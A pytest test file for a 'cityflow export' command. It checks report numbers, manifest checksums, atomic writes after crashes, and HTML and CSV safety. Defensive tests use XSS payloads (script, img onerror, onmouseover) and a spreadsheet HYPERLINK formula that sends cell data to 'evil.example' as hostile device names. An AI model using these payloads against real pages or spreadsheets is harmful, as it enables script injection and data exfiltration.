"""`cityflow export` on a small known lake (real Parquet, real DuckDB): numbers equal the pandas
recompute, the manifest's checksums match, a re-run is unchanged, a killed or failing run
leaves no partial period directory, an incomplete period is refused, the HTML loads nothing
from outside and escapes hostile device strings."""

from __future__ import annotations

import argparse
import hashlib
import json
import os
import re
import signal
import subprocess
import sys
import time
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from contracts import lake as L
from contracts.settings import settings as cached_settings
from jobs import export as export_mod
from jobs.cli import main
from jobs.commands import export as cmd
from jobs.export import FORMATS, spreadsheet_safe
from tests.support.report_lake import DETECTORS, KnownLake, build_known_lake
from tests.warehouse.test_figures import RECOMPUTES, _decimals, assert_same
from warehouse.figures import figures

DAY = "2024-03-02"
REPO = Path(__file__).resolve().parents[2]


def export_args(**kw: Any) -> argparse.Namespace:
    args = {"period": "day", "date": date.fromisoformat(DAY), "format": FORMATS, "out": None,
            "allow_partial": False}
    args.update(kw)
    return argparse.Namespace(**args)


@pytest.fixture
def env(lake: L.Lake, db_path: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
    monkeypatch.setenv("CITYFLOW_LAKE", lake.root)
    monkeypatch.setenv("CITYFLOW_WAREHOUSE_DB", str(db_path))
    monkeypatch.delenv("CITYFLOW_REPORT_TZ", raising=False)
    cached_settings.cache_clear()
    return tmp_path / "out"


@pytest.fixture
def known(lake: L.Lake) -> KnownLake:
    return build_known_lake(lake)


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def period_dir(out: Path) -> Path:
    return out / "day" / DAY


def test_export_numbers_equal_the_recompute_and_the_manifest_matches_the_files(
    known: KnownLake, env: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert cmd.run_export(export_args(out=env)) == 0
    out, err = capsys.readouterr()
    target = period_dir(env)
    assert f"wrote {target}" in out
    figs = figures()
    for i, name in enumerate(figs, 1):  # a progress line per figure
        assert f"[{i}/{len(figs)}] {name}:" in err

    for name, recompute in RECOMPUTES.items():
        expected = recompute(known)
        decimals = _decimals(figs[name].query.sql)
        from_parquet = pq.read_table(target / f"{name}.parquet").to_pandas()
        assert_same(name, from_parquet, expected, decimals)
        from_csv = pd.read_csv(target / f"{name}.csv")
        for col in from_csv.columns:  # CSV text: times as ISO text, compare them as times
            if col.endswith("_ts"):
                from_csv[col] = pd.to_datetime(from_csv[col], utc=True)
        assert_same(name, from_csv, expected, decimals)

    manifest = json.loads((target / "manifest.json").read_text())
    listed = {f["path"]: f for f in manifest["files"]}
    on_disk = {p.name for p in target.iterdir()} - {"manifest.json"}
    assert set(listed) == on_disk == {f"{n}.{x}" for n in figs for x in ("csv", "parquet")} | {"report.html"}
    for name, f in listed.items():
        assert f["sha256"] == sha256(target / name) and f["bytes"] == (target / name).stat().st_size
        if f["format"] == "parquet":
            assert f["rows"] == pq.read_metadata(target / name).num_rows
    assert manifest["period"] == {"kind": "day", "label": DAY, "tz": "UTC", "start": "2024-03-02T00:00:00+00:00",
                                  "end": "2024-03-03T00:00:00+00:00", "start_utc": "2024-03-02T00:00:00Z",
                                  "end_utc": "2024-03-03T00:00:00Z"}
    assert manifest["partial"] is False and manifest["incomplete_sources"] == []
    assert set(manifest["sources"]) == {"traffic", "lighting", "wifi", "logistics", "supply"}
    for source, status in manifest["sources"].items():
        assert status["complete"] and status["last_event_ts"] > "2024-03-03T01", source
    assert manifest["cityflow_version"] and manifest["generated_at"].endswith("Z")
    assert manifest["figures"]["traffic_volume"]["columns"][2] == {
        "name": "vehicles", "unit": "vehicles", "doc": figs["traffic_volume"].columns[2].doc}


def test_a_second_run_is_unchanged_and_byte_identical(
    known: KnownLake, env: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert cmd.run_export(export_args(out=env)) == 0
    target = period_dir(env)
    before = {p.name: (p.stat().st_ino, sha256(p)) for p in target.iterdir()}
    capsys.readouterr()

    assert cmd.run_export(export_args(out=env)) == 0
    assert capsys.readouterr().out.startswith(f"unchanged: {target}")
    assert {p.name: (p.stat().st_ino, sha256(p)) for p in target.iterdir()} == before  # not even rewritten

    # a fresh export elsewhere is byte-identical file by file (manifest aside: generated_at)
    assert cmd.run_export(export_args(out=env / "again")) == 0
    again = period_dir(env / "again")
    for name, (_, digest) in before.items():
        if name != "manifest.json":
            assert sha256(again / name) == digest, name


def test_new_data_in_the_period_rewrites_it(
    known: KnownLake, lake: L.Lake, env: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    fmt = ("csv",)
    assert cmd.run_export(export_args(out=env, format=fmt)) == 0
    target = period_dir(env)
    before = {p.name: sha256(p) for p in target.iterdir()}
    # one more landed wifi report inside the period changes the figures: written anew
    from tests.support.warehouse_lake import land, raw_table, utc

    row = {"ap_id": "ap-st-1", "ts": utc("2024-03-02T15:00:00"), "site_type": "street", "district": "Mitte",
           "connected_clients": 4999, "bytes_in": 1, "bytes_out": 1, "auth_failures": 0, "latency_ms": 1.0,
           "status": "up"}
    land(lake, L.RAW, "wifi", raw_table("wifi", [row], first_offset=90_000), "ts", first=90_000)
    capsys.readouterr()
    assert cmd.run_export(export_args(out=env, format=fmt)) == 0
    assert capsys.readouterr().out.startswith(f"wrote {target}")
    assert sha256(target / "wifi_by_site_type.csv") != before["wifi_by_site_type.csv"]
    assert sha256(target / "traffic_volume.csv") == before["traffic_volume.csv"]
    assert [p.name for p in target.parent.iterdir()] == [DAY]  # nothing set aside is left


def test_an_incomplete_period_is_refused_unless_allowed(
    known: KnownLake, env: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # the lake's events end at 2024-03-03 01:59: that day is not over
    args = export_args(date=date(2024, 3, 3), out=env)
    assert cmd.run_export(args) == cmd.EXIT_INCOMPLETE
    err = capsys.readouterr().err
    assert "day 2024-03-03 is not complete yet" in err and "traffic: watermark 2024-03-03T01:" in err
    assert "--allow-partial" in err and err.count("\n") == 1
    assert not (env / "day").exists() or list((env / "day").iterdir()) == []

    args.allow_partial = True
    assert cmd.run_export(args) == 0
    target = env / "day" / "2024-03-03"
    manifest = json.loads((target / "manifest.json").read_text())
    assert manifest["partial"] is True
    assert sorted(manifest["incomplete_sources"]) == ["lighting", "logistics", "supply", "traffic", "wifi"]
    assert manifest["sources"]["traffic"]["complete"] is False
    assert "(partial)" in capsys.readouterr().out
    assert "Partial report" in (target / "report.html").read_text()


def test_a_failure_mid_export_leaves_no_partial_period_directory(
    known: KnownLake, env: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    assert cmd.run_export(export_args(out=env)) == 0  # a previous, complete export
    target = period_dir(env)
    manifest = json.loads((target / "manifest.json").read_text())

    real = export_mod._parquet_bytes
    calls = []

    def failing(table: Any) -> bytes:
        calls.append(1)
        if len(calls) == 3:
            raise OSError("No space left on device")
        return real(table)

    monkeypatch.setattr(export_mod, "_parquet_bytes", failing)
    # new data, so the run would replace the directory
    from tests.support.warehouse_lake import land, raw_table, traffic_row

    land(L.Lake(os.environ["CITYFLOW_LAKE"]), L.RAW, "traffic",
         raw_table("traffic", [traffic_row("tdet-9", "2024-03-02T16:00:10")], first_offset=80_000), "ts",
         first=80_000)
    capsys.readouterr()
    assert cmd.run_export(export_args(out=env)) == 1
    assert "error: No space left on device" in capsys.readouterr().err
    assert len(calls) == 3
    # the previous export is untouched, and no temp directory is left behind
    assert sorted(p.name for p in target.parent.iterdir()) == [DAY]
    for f in manifest["files"]:
        assert sha256(target / f["path"]) == f["sha256"]

    # the same on a first export: nothing at all
    calls.clear()
    assert cmd.run_export(export_args(out=env / "first")) == 1
    assert list((env / "first" / "day").iterdir()) == []


def test_a_killed_export_leaves_no_partial_period_directory(known: KnownLake, env: Path) -> None:
    """SIGKILL right after the first figure's progress line: no period directory; the next run
    removes the dead run's temp directory and writes the period."""
    command = [sys.executable, "-m", "jobs.cli", "export", "--period", "day", "--date", DAY, "--out", str(env)]
    proc = subprocess.Popen(command, cwd=REPO, stderr=subprocess.PIPE, stdout=subprocess.DEVNULL, text=True)
    try:
        assert proc.stderr is not None
        deadline = time.monotonic() + 120
        for line in proc.stderr:
            if "[1/" in line:
                proc.send_signal(signal.SIGKILL)
                break
            assert time.monotonic() < deadline
    finally:
        if proc.poll() is None:
            proc.kill()
        proc.wait(timeout=60)
    assert proc.returncode == -signal.SIGKILL, "the export finished before it could be killed"
    parent = env / "day"
    assert not (parent / DAY).exists()
    leftovers = [p.name for p in parent.iterdir()]
    assert leftovers and all(n.startswith(f".{DAY}.tmp-") for n in leftovers), leftovers  # it was mid-export

    assert cmd.run_export(export_args(out=env)) == 0
    assert [p.name for p in parent.iterdir()] == [DAY]
    assert (parent / DAY / "manifest.json").exists()


HOSTILE_ROAD = '<script>alert("road")</script> & <img src=x onerror=alert(1)> $\\frac{a}{b}$'
HOSTILE_DISTRICT = "<b onmouseover=alert(2)>Mitte</b>"


def test_html_is_self_contained_and_escapes_hostile_device_strings(lake: L.Lake, env: Path) -> None:
    # hand-landed files are not validated, so a hostile road and district reach the views
    roads = dict(DETECTORS)
    roads["tdet-1"] = (HOSTILE_ROAD, HOSTILE_DISTRICT)
    roads["tdet-2"] = (HOSTILE_ROAD, HOSTILE_DISTRICT)
    build_known_lake(lake, roads=roads)
    assert cmd.run_export(export_args(out=env, format=("html",))) == 0
    target = period_dir(env)
    assert sorted(p.name for p in target.iterdir()) == ["manifest.json", "report.html"]
    page = (target / "report.html").read_text()

    assert HOSTILE_ROAD not in page and HOSTILE_DISTRICT not in page
    assert "<script" not in page.lower() and "<img" not in page.lower()
    assert not re.search(r"<[a-z]+[^>]*\s(on[a-z]+|src)=", page)  # no live attribute of any tag
    assert "&lt;script&gt;alert(&quot;road&quot;)&lt;/script&gt; &amp; &lt;img" in page  # table cell
    assert "&lt;b onmouseover=alert(2)&gt;Mitte&lt;/b&gt;" in page
    # nothing loaded from anywhere: no URL, no external reference of any kind
    assert not re.search(r"(?i)https?://|//[a-z0-9.-]+\.[a-z]{2,}/|@import|url\((?!#)|href=\"(?!#)|<link|<iframe|<object",
                         page)  # (url(#id) and href="#id" are the charts' references to their own elements)
    assert "Content-Security-Policy" in page
    # one chart per figure that has a chart spec and rows; the hostile road is drawn as text
    charts = re.findall(r'<figure class="chart" data-figure="([a-z_]+)"><svg', page)
    assert "worst_roads" in charts and "traffic_volume" in charts and len(charts) >= 8
    worst = page.split('data-figure="worst_roads"><svg', 1)[1].split("</svg>", 1)[0]
    assert "&lt;script&gt;alert(&quot;road&quot;)&lt;/script&gt;" in worst or \
        "&lt;script&gt;alert(\"road\")&lt;/script&gt;" in worst
    assert "$\\frac{a}{b}$" in worst  # mathtext off: shown as typed


FORMULA_ROAD = '=HYPERLINK("http://evil.example/?"&A1,"Ruhrort")'


def test_csv_cells_a_spreadsheet_would_run_open_as_text(lake: L.Lake, env: Path) -> None:
    """A road named like a formula is exported to CSV with a leading apostrophe (it opens as
    text in a spreadsheet program); Parquet keeps the value as it is; numbers are untouched."""
    roads = dict(DETECTORS)
    roads["tdet-1"] = (FORMULA_ROAD, "Mitte")
    roads["tdet-2"] = ("-1+1", "Mitte")
    build_known_lake(lake, roads=roads)
    assert cmd.run_export(export_args(out=env, format=("csv", "parquet"))) == 0
    target = period_dir(env)
    csv_roads = pd.read_csv(target / "worst_roads.csv")["road"].tolist()
    parquet_roads = pq.read_table(target / "worst_roads.parquet").column("road").to_pylist()
    assert "'" + FORMULA_ROAD in csv_roads and "'-1+1" in csv_roads
    assert FORMULA_ROAD in parquet_roads and "-1+1" in parquet_roads
    assert not [r for r in csv_roads if str(r)[:1] in "=+-@"]
    lone = spreadsheet_safe(pa.table({"district": ["-", "+", "Mitte", None]})).column("district").to_pylist()
    assert lone == ["-", "+", "Mitte", None]  # no formula: kept as it is
    # numbers are as they were (a negative number is a number, not a formula)
    assert spreadsheet_safe(pa.table({"x": [-1.5, 2.0]})).equals(pa.table({"x": [-1.5, 2.0]}))


def test_user_errors_exit_2_with_one_line(env: Path, monkeypatch: pytest.MonkeyPatch,
                                          capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setenv("CITYFLOW_REPORT_TZ", "Mars/Olympus_Mons")
    assert main(["export", "--period", "day", "--date", DAY, "--out", str(env)]) == 2
    err = capsys.readouterr().err
    assert "CITYFLOW_REPORT_TZ" in err and "Mars/Olympus_Mons" in err and "Traceback" not in err
    monkeypatch.delenv("CITYFLOW_REPORT_TZ")
    for argv, message in ((["--format", "html,pdf"], "formats are a comma-separated subset"),
                          (["--date", "30.11.2026"], "expected a day as YYYY-MM-DD"),
                          (["--period", "year"], "invalid choice")):
        with pytest.raises(SystemExit) as exc:
            main(["export", "--period", "day", "--out", str(env), *argv])
        assert exc.value.code == 2
        assert message in capsys.readouterr().err


def test_report_time_zone_cuts_the_period(known: KnownLake, env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CITYFLOW_REPORT_TZ", "Europe/Berlin")
    assert cmd.run_export(export_args(out=env, format=("csv",))) == 0
    target = period_dir(env)
    manifest = json.loads((target / "manifest.json").read_text())
    assert manifest["period"]["tz"] == "Europe/Berlin"
    assert manifest["period"]["start"] == "2024-03-02T00:00:00+01:00"
    assert manifest["period"]["start_utc"] == "2024-03-01T23:00:00Z"
    assert manifest["period"]["end_utc"] == "2024-03-02T23:00:00Z"
    got = pd.read_csv(target / "source_freshness.csv").set_index("source")["events"]
    start, end = pd.Timestamp("2024-03-01T23:00", tz="UTC"), pd.Timestamp("2024-03-02T23:00", tz="UTC")
    raws = {"traffic": known.raw_traffic, "wifi": known.raw_wifi, **known.raw_other}
    for source, frame in raws.items():
        assert got[source] == ((frame["ts"] >= start) & (frame["ts"] < end)).sum(), source


def test_newest_event_comes_from_the_footers_and_equals_the_raw_max(known: KnownLake, lake: L.Lake) -> None:
    import pyarrow.parquet as pq_

    from jobs.export import newest_event_ts

    raws = {"traffic": known.raw_traffic, "wifi": known.raw_wifi, **known.raw_other}
    for source, frame in raws.items():
        assert newest_event_ts(lake, source) == frame["ts"].max().tz_convert(None).to_pydatetime(), source
    assert newest_event_ts(L.Lake(str(Path(lake.root) / "empty")), "traffic") is None

    # a file written without statistics is read instead (and here holds the newest event)
    from tests.support.warehouse_lake import raw_table, traffic_row

    newest = raw_table("traffic", [traffic_row("tdet-1", "2024-03-03T01:59:59")], first_offset=70_000)
    rel = "raw/source=traffic/date=2024-03-03/hour=01/city.traffic.v1+0+70000-70000.parquet"
    pq_.write_table(newest, Path(lake.root) / rel, write_statistics=False)
    assert pq_.read_metadata(Path(lake.root) / rel).row_group(0).column(1).statistics is None
    assert newest_event_ts(lake, "traffic") == datetime(2024, 3, 3, 1, 59, 59)
